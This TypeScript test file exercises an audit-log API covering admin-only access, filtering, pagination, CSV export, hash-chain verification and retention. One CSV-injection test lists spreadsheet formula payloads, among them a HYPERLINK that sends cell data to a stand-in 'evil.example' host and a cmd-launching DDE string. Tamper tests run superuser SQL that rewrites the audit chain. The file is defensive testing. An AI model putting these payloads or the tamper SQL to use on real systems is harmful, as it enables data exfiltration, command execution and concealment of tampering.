// Audit review (issue #7): admin-only API, filters and keyset pagination, CSV, verification with
// checkpoints, retention round trip and external anchors, on a real PostgreSQL.
import { chmod, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compareWithAnchors, currentAnchor, parseAnchors } from '../server/audit/anchor.js';
import { applyRetention, verifyExportFile } from '../server/audit/retention.js';
import { AuditLog, type AuditEvent } from '../server/audit/service.js';
import { connectToolsDb, type ToolsDb } from '../server/db/tools-db.js';
import { startTestApp, type TestApp } from './support/app.js';
import { jsonHeaders, signIn, type SignedIn } from './support/auth.js';
import { adminQuery } from './support/databases.js';
import { operatorEnv, runOperatorCli } from './support/operator.js';

describe('audit review API', () => {
  let t: TestApp;
  let admin: SignedIn;
  beforeAll(async () => {
    t = await startTestApp();
    admin = await signIn(t, 'admin', { email: 'auditor@example.com' });
  });
  afterAll(() => t.close());

  const get = (url: string, who: SignedIn = admin) => t.app.inject({ method: 'GET', url, headers: { cookie: who.cookie } });
  const record = (event: AuditEvent) => t.app.audit.record(event);

  it('answers 403 to viewers and editors on every audit route', async () => {
    for (const role of ['viewer', 'editor'] as const) {
      const user = await signIn(t, role);
      for (const url of ['/api/audit', '/api/audit.csv', '/api/audit/verify', '/api/audit/activity', '/api/audit/1']) {
        const res = await get(url, user);
        expect({ role, url, status: res.statusCode }).toEqual({ role, url, status: 403 });
      }
    }
  });

  it('filters by actor, action, source, query and version, outcome and SQL text, newest first', async () => {
    const alice = { id: '9001', email: 'alice@example.com' };
    const bob = { id: '9002', email: 'bob@example.com' };
    const seqs = {
      a: await record({
        action: 'run.started',
        actor: alice,
        dataSource: 'main',
        queryId: '77',
        queryVersion: 2,
        sql: 'select 100% of_it, a_b from t',
      }),
      b: await record({
        action: 'run.failed',
        actor: alice,
        dataSource: 'replica',
        outcome: 'error',
        errorCode: 'syntax_error',
        sql: 'selec 1',
      }),
      c: await record({
        action: 'run.finished',
        actor: bob,
        dataSource: 'main',
        queryId: '77',
        queryVersion: 3,
        outcome: 'ok',
        rowCount: 5,
        sql: 'select 1',
      }),
      d: await record({
        action: 'run.started',
        actor: bob,
        dataSource: 'main',
        queryId: '78',
        queryVersion: 1,
        sql: 'SELECT count(*) FROM notifications',
      }),
    };
    const seqsOf = async (query: string) => {
      const res = await get(`/api/audit?${query}`);
      expect(res.statusCode).toBe(200);
      return res.json().events.map((e: { seq: string }) => e.seq);
    };
    expect(await seqsOf('actor=9001')).toEqual([seqs.b, seqs.a]);
    // By email: the person's user ids, from the users table.
    const signedUp = await signIn(t, 'editor', { email: 'Carol@Example.com' });
    const carol = await record({ action: 'run.started', actor: { id: signedUp.user.id, email: signedUp.user.email } });
    expect(await seqsOf('actor=carol%40example.com')).toEqual([carol]);
    expect(await seqsOf('actor=nobody%40example.com')).toEqual([]);
    expect(await seqsOf('action=run.started&actor=9002')).toEqual([seqs.d]);
    expect(await seqsOf('dataSource=replica')).toEqual([seqs.b]);
    expect(await seqsOf('queryId=77')).toEqual([seqs.c, seqs.a]);
    expect(await seqsOf('queryId=77&queryVersion=3')).toEqual([seqs.c]);
    expect(await seqsOf('outcome=error')).toEqual([seqs.b]);
    expect(await seqsOf('q=notifications')).toEqual([seqs.d]);
    expect(await seqsOf('q=' + encodeURIComponent('100%'))).toEqual([seqs.a]); // % and _ are literal
    expect(await seqsOf('q=a_b')).toEqual([seqs.a]);
    expect(await seqsOf('q=zzz-no-match')).toEqual([]);

    const first = (await get(`/api/audit?actor=9002`)).json().events[0];
    expect(first).toMatchObject({
      seq: seqs.d,
      action: 'run.started',
      actor: bob,
      dataSource: 'main',
      queryId: '78',
      queryVersion: 1,
    });
    expect(first.sqlPreview).toBe('SELECT count(*) FROM notifications');
    expect((await get('/api/audit?outcome=maybe')).statusCode).toBe(400);
  });

  it('filters by time range', async () => {
    const before = await record({ action: 'run.started', actor: { id: '9100', email: null } });
    await new Promise((resolve) => setTimeout(resolve, 30));
    const from = new Date().toISOString();
    const inside = await record({ action: 'run.started', actor: { id: '9100', email: null } });
    const to = new Date(Date.now() + 1).toISOString();
    await new Promise((resolve) => setTimeout(resolve, 30));
    await record({ action: 'run.started', actor: { id: '9100', email: null } });
    const events = (await get(`/api/audit?actor=9100&from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`)).json()
      .events;
    expect(events.map((e: { seq: string }) => e.seq)).toEqual([inside]);
    expect(before).not.toBe(inside);
  });

  it('pages with a cursor with no gaps and no duplicates while new events arrive', async () => {
    const actor = { id: '9200', email: 'pager@example.com' };
    const written: string[] = [];
    for (let i = 0; i < 120; i++) written.push(await record({ action: 'run.started', actor, details: { i } }));
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res = await get(`/api/audit?actor=9200${cursor ? `&cursor=${cursor}` : ''}`);
      const body = res.json() as { events: Array<{ seq: string }>; nextCursor: string | null };
      seen.push(...body.events.map((e) => e.seq));
      cursor = body.nextCursor;
      pages++;
      await record({ action: 'run.started', actor, details: { arrivedDuringPaging: pages } }); // newer than the first page
    } while (cursor);
    expect(pages).toBe(3);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).toEqual([...written].reverse());
  });

  it('returns one event in full and records that it was read', async () => {
    const seq = await record({
      action: 'run.failed',
      actor: { id: '9300', email: 'x@example.com' },
      sql: 'select $1::int',
      params: { n: '1' },
      errorCode: 'boom',
      details: { message: 'nope' },
    });
    const res = await get(`/api/audit/${seq}`);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      seq,
      sql: 'select $1::int',
      params: { n: '1' },
      errorCode: 'boom',
      details: { message: 'nope' },
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect((await get('/api/audit/999999999')).statusCode).toBe(404);
    const reads = await adminQuery(
      `select details from audit_events where action = 'audit.read' and actor_user_id = $1 order by seq desc limit 1`,
      [admin.user.id],
      t.tools.database,
    );
    expect(reads.rows[0].details).toEqual({ seq });
  });

  it('exports matching events as CSV and records the export', async () => {
    const actor = { id: '9400', email: 'csv@example.com' };
    await record({ action: 'run.started', actor, sql: 'select 1, "quoted"\nfrom t -- comma, here' });
    await record({ action: 'run.finished', actor, rowCount: 1, outcome: 'ok' });
    const res = await get('/api/audit.csv?actor=9400');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="porthole-audit-.*\.csv"/);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe(
      'seq,occurred_at,actor_user_id,actor_email,action,data_source,query_id,query_version,outcome,row_count,duration_ms,error_code,sql',
    );
    expect(lines[1]).toMatch(/^\d+,[^,]+,9400,csv@example.com,run.finished,,,,ok,1,,,$/);
    expect(res.body).toContain('"select 1, ""quoted""\nfrom t -- comma, here"');
    const exports = await adminQuery(
      `select details from audit_events where action = 'audit.exported' order by seq desc limit 1`,
      [],
      t.tools.database,
    );
    expect(exports.rows[0].details).toEqual({ filter: { actorId: '9400' } });
  });

  it('neutralises spreadsheet formulas in the audit CSV, from a refused run to the export (THREATS.md 51)', async () => {
    const viewer = await signIn(t, 'viewer', { email: '@evil@example.com' });
    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd'];
    for (const sql of formulas) {
      const refused = await t.app.inject({
        method: 'POST',
        url: '/api/runs',
        headers: jsonHeaders(viewer, t),
        payload: JSON.stringify({ dataSource: 'main', sql }),
      });
      expect(refused.statusCode).toBe(403);
    }
    await record({
      action: 'run.failed',
      actor: { id: viewer.user.id, email: viewer.user.email },
      sql: '\t=1+1',
      errorCode: '\r=2',
    });
    const res = await get(`/api/audit.csv?actor=${viewer.user.id}`);
    expect(res.statusCode).toBe(200);
    const cells = parseCsv(res.body).slice(1).flat();
    for (const sql of formulas) expect(cells).toContain(`'${sql}`);
    expect(cells).toContain("'@evil@example.com");
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain("'\r=2");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('keeps results CSV byte-faithful to the database, formulas included', async () => {
    const editor = await signIn(t, 'editor');
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/runs.csv',
      headers: jsonHeaders(editor, t),
      payload: JSON.stringify({ dataSource: 'main', sql: `select '=1+1' as "=formula", '-5' as minus, '@x' as at` }),
    });
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe('=formula,minus,at\n=1+1,-5,@x\n');
  });

  it('verifies incrementally by default and fully on demand; full checks catch an old edit', async () => {
    const first = (await get('/api/audit/verify?full=true')).json();
    expect(first).toMatchObject({ status: 'ok', full: true, fromSeq: '0', firstBadSeq: null });
    expect(first.eventsVerified).toBe(Number(first.headSeq));
    await record({ action: 'system.started' });
    const incremental = (await get('/api/audit/verify')).json();
    expect(incremental).toMatchObject({ status: 'ok', full: false, fromSeq: first.headSeq });
    expect(incremental.eventsVerified).toBeLessThanOrEqual(3);

    await adminQuery(
      `begin; set local session_replication_role = replica; update audit_events set sql = 'tampered' where seq = 2; commit`,
      [],
      t.tools.database,
    );
    expect((await get('/api/audit/verify')).json().status).toBe('ok'); // only events after the last verification are recomputed
    expect((await get('/api/audit/verify?full=true')).json()).toMatchObject({ status: 'broken', firstBadSeq: '2' });
  });

  it('counts runs per user per day for the activity chart', async () => {
    await record({ action: 'run.started', actor: { id: '9500', email: 'busy@example.com' } });
    await record({ action: 'run.started', actor: { id: '9500', email: 'busy@example.com' } });
    const res = await get('/api/audit/activity?days=7&actor=9500');
    expect(res.statusCode).toBe(200);
    expect(res.json().days).toEqual([
      { day: new Date().toISOString().slice(0, 10), actor: { id: '9500', email: 'busy@example.com' }, runs: 2 },
    ]);
  });
});

describe('retention and anchors', () => {
  let t: TestApp;
  let owner: ToolsDb;
  let outDir: string;
  beforeAll(async () => {
    t = await startTestApp();
    owner = connectToolsDb(t.tools.ownerUrl, { max: 1 });
    outDir = await mkdtemp(path.join(os.tmpdir(), 'porthole-retention-'));
    await chmod(outDir, 0o700);
  });
  afterAll(async () => {
    await owner.close();
    await t.close();
    await rm(outDir, { recursive: true, force: true });
  });

  it('exports and removes expired events; the chain, the file and old anchors still verify', async () => {
    const log = new AuditLog(t.app.toolsDb);
    for (let i = 1; i <= 5; i++)
      await log.record({
        action: 'run.started',
        actor: { id: '1', email: 'old@example.com' },
        sql: `select ${i}`,
        details: { i },
      });
    const earlyAnchor = await currentAnchor(t.app.toolsDb);
    await new Promise((resolve) => setTimeout(resolve, 30));
    const cutoff = new Date();
    await new Promise((resolve) => setTimeout(resolve, 30));
    for (let i = 6; i <= 8; i++) await log.record({ action: 'run.started', details: { i } });

    // The serving role can neither remove events nor write checkpoints.
    await expect(applyRetention(t.app.toolsDb, { cutoff, outDir })).rejects.toThrow(/must be owner|permission denied/);
    await rm(path.join(outDir, (await readdir(outDir))[0] ?? 'none'), { force: true });

    const result = await applyRetention(owner.db, { cutoff, outDir });
    expect(result).toMatchObject({ removed: 5, fromSeq: '1', throughSeq: '5' });
    expect(
      (await adminQuery('select min(seq)::text as min, count(*)::int as n from audit_events', [], t.tools.database)).rows[0],
    ).toEqual({ min: '6', n: 3 });
    expect(await log.verify({ full: true })).toMatchObject({ ok: true, events: 3, fromSeq: '5', headSeq: '8' });
    expect(await verifyExportFile(result.file!)).toEqual({ ok: true, events: 5 });
    const lines = (await readFile(result.file!, 'utf8')).trim().split('\n');
    expect(lines).toHaveLength(7);
    expect(JSON.parse(lines[1]!)).toMatchObject({ seq: '1', sql: 'select 1', actor_email: 'old@example.com' });

    const lateAnchor = await currentAnchor(t.app.toolsDb);
    expect(await compareWithAnchors(t.app.toolsDb, [earlyAnchor, lateAnchor])).toEqual({ ok: true, checked: 1, skipped: 1 });
    expect(await applyRetention(owner.db, { cutoff, outDir })).toEqual({ removed: 0 }); // idempotent

    // A tampered export file is caught.
    const tampered = lines.map((line, i) => (i === 2 ? line.replace('select 2', 'select 22') : line)).join('\n');
    await writeFile(path.join(outDir, 'tampered.jsonl'), tampered);
    expect(await verifyExportFile(path.join(outDir, 'tampered.jsonl'))).toMatchObject({
      ok: false,
      problem: 'event 2 does not verify',
    });
  });

  it('catches a rewrite of the whole chain through the anchors (npm run audit:verify --anchor)', async () => {
    const log = new AuditLog(t.app.toolsDb);
    const rewritten = await log.record({ action: 'run.finished', sql: 'select secret_column from t' });
    const total = (await log.verify({ full: true })).events;
    const anchorFile = path.join(outDir, 'anchors.jsonl');
    await writeFile(anchorFile, `${JSON.stringify(await currentAnchor(t.app.toolsDb))}\n`);
    const cli = (args: string[]) => runOperatorCli('audit-verify', args, operatorEnv(t.tools.appUrl));
    expect(await cli(['--anchor', anchorFile])).toMatchObject({
      code: 0,
      stdout: `anchors: 1 matched, 0 older than retention (${anchorFile})\nok: ${total} events, head ${rewritten}\n`,
    });

    // A superuser rewrites an event and recomputes every later hash and the head: the chain is consistent again.
    await adminQuery(
      `do $$
       declare e audit_events; prev bytea;
       begin
         set local session_replication_role = replica;
         update audit_events set sql = 'select 1' where seq = ${Number(rewritten)};
         select coalesce((select hash from audit_retention_checkpoints order by seq desc limit 1), decode(repeat('00', 32), 'hex')) into prev;
         for e in select * from audit_events order by seq loop
           update audit_events set prev_hash = prev, hash = sha256(prev || convert_to(audit_canonical(e), 'UTF8')) where seq = e.seq;
           select hash into prev from audit_events where seq = e.seq;
         end loop;
         update audit_chain_head set hash = prev where id = 1;
       end $$`,
      [],
      t.tools.database,
    );
    expect(await log.verify({ full: true })).toMatchObject({ ok: true });
    const caught = await cli(['--anchor', anchorFile]);
    expect(caught.code).toBe(1);
    expect(caught.stdout).toMatch(new RegExp(`FAILED against anchors .*event ${rewritten} does not match the anchor`));
    expect(parseAnchors(await readFile(anchorFile, 'utf8'))).toHaveLength(1);
  });

  it('refuses to run retention without owner credentials', async () => {
    const result = await runOperatorCli('audit-retention', ['--days', '30'], operatorEnv(t.tools.appUrl));
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/owner credentials: set TOOLS_MIGRATION_URL/);
  });
});

/** RFC 4180 fields of a CSV body (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(body: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  return records;
}
